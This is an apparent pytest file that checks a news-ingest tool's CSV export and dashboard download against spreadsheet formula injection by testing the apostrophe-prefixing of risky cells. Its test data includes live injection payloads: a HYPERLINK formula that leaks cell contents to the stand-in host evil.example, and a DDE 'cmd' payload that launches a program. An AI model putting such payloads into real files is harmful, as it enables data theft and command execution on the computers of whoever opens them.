"""CSV exports are safe to open in a spreadsheet: no cell starts a formula.

A cell starting with =, +, -, @ (or a tab or carriage return, before which some spreadsheets
skip) is read as a formula; such cells get a leading apostrophe, in `python -m ingest export`
and in the dashboard's download alike (both go through ingest.read.export).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from helpers.feeds import rss, rss_item

from ingest import pipeline, store
from ingest.cli import main
from ingest.read.events import iter_events
from ingest.read.export import CSV_COLUMNS, FORMULA_STARTS, csv_row, safe_cell, to_csv_text
from ingest.sources.feedlist import FeedSpec

NOW = datetime(2025, 11, 5, 12, 0, tzinfo=UTC)
PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "-@", "==", "+", "@"]


@pytest.mark.parametrize("lead", FORMULA_STARTS)
@pytest.mark.parametrize("rest", ["", "1+1", " China restricts gallium", "@", "=="])
def test_every_formula_start_gets_an_apostrophe(lead, rest):
    assert safe_cell(lead + rest) == "'" + lead + rest


@pytest.mark.parametrize("value", ["China curbs gallium", "'quoted", " =space first", "a=b", "2025-11-05",
                                   "", None, 3, "https://x.example/?a=-1"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_every_column_of_a_row_is_neutralised():
    ev = {"id": "=id", "date": "2025-11-05", "end_date": None, "date_precision": "day",
          "date_source": "text", "type": "export_control", "subtype": "@sub", "status": "announced",
          "actor": "+CN", "countries": ["-CN"], "targets": ["=US"], "commodities": ["@gallium"],
          "headline": "\tHead", "evidence": "\rEvidence",
          "articles": [{"url": "=u", "title": "t", "source": "@src", "published": "2025-11-05T00:00:00+00:00"}]}
    row = csv_row(ev)
    assert set(row) == set(CSV_COLUMNS)
    for col, cell in row.items():
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (col, cell)
    assert row["headline"] == "'\tHead" and row["evidence"] == "'\rEvidence" and row["actor"] == "'+CN"


@pytest.fixture
def formula_store(db_url, tmp_path):
    """Relevant items whose headlines and evidence start with formula payloads."""
    items = [rss_item(f"{p}China restricts gallium exports ({i})", link=f"https://csv.example/{i}",
                      description=f"{p}China's commerce ministry said it will restrict exports of gallium "
                                  f"from Aug. {i + 1}, 2023.", pub_date="Mon, 03 Jul 2023 09:00:00 +0000")
             for i, p in enumerate(PAYLOADS)]
    feed = tmp_path / "formulas.xml"
    feed.write_bytes(rss(*items))
    engine = store.connect(db_url)
    try:
        (out,) = pipeline.run(engine, [FeedSpec("formulas", str(feed))], now=lambda: NOW).outcomes
        assert out.status == "ok" and out.new_events >= len(PAYLOADS), out
        yield db_url, engine
    finally:
        engine.dispose()


def _check(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (col, cell)
    heads = [r["headline"] for r in rows]
    for p in PAYLOADS:  # the text is all there, behind the apostrophe
        assert any(h.startswith("'" + p + "China restricts gallium") for h in heads), p
    assert any(r["evidence"].startswith("'=") for r in rows)
    return rows


def test_cli_export_and_dashboard_download_are_neutralised(formula_store, capsys):
    url, engine = formula_store
    assert main(["export", "--events", "--format", "csv", "--db", url]) == 0
    cli_rows = _check(capsys.readouterr().out)
    download_rows = _check(to_csv_text(iter_events(engine)))
    assert cli_rows == download_rows
    # JSON keeps the text exactly as stored: it is data, not a spreadsheet.
    assert main(["export", "--events", "--format", "jsonl", "--db", url]) == 0
    heads = [json.loads(line)["headline"] for line in capsys.readouterr().out.splitlines()]
    assert any(h.startswith("=HYPERLINK(") for h in heads)
